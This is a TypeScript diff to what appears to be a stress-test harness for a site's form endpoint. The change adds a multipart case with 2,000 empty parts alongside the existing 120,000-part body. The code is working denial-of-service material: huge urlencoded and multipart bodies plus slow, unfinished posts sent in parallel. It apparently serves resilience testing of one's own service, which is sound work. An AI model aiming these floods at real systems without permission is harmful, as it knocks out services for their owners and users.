@@ -6,9 +6,13 @@ import type { Attack, AttackContext } from "./target.ts";
 const MEGABYTE = 1024 * 1024;
 
 const manyNames = Buffer.from("a&".repeat(MEGABYTE));
-const emptyParts = Buffer.from(
-  `${'--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n\r\n'.repeat(120_000)}--x--\r\n`,
-);
+const emptyParts = (count: number) =>
+  Buffer.from(
+    `${'--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n\r\n'.repeat(count)}--x--\r\n`,
+  );
+const tooManyParts = emptyParts(120_000);
+/** About as many as a form may have, so that the whole body is read. */
+const manyParts = emptyParts(2_000);
 
 /** Opens a post of 5 MB, sends 2 MB of it at once, and the rest a byte a second. */
 function unfinished({ target, signal, count }: AttackContext, url: string): Promise<void> {
@@ -34,7 +38,7 @@ function unfinished({ target, signal, count }: AttackContext, url: string): Prom
   });
 }
 
-/** Form bodies of 2 MB with a million names, of 120,000 empty parts, and 150 that don't end. */
+/** Form bodies of 2 MB with a million names, of 120,000 and 2,000 empty parts, and 150 that don't end. */
 export const bodies: Attack = async (context) => {
   const { target, signal } = context;
   const url = `${target.site}/api/forms/${target.form}`;
@@ -53,8 +57,10 @@ export const bodies: Attack = async (context) => {
     repeat(4, context, (_, agent) =>
       send(url, { ...post("application/x-www-form-urlencoded", manyNames), agent }, signal),
     ),
-    repeat(4, context, (_, agent) =>
-      send(url, { ...post("multipart/form-data; boundary=x", emptyParts), agent }, signal),
+    ...[tooManyParts, manyParts].map((parts) =>
+      repeat(4, context, (_, agent) =>
+        send(url, { ...post("multipart/form-data; boundary=x", parts), agent }, signal),
+      ),
     ),
     ...Array.from({ length: 150 }, slow),
   ]);
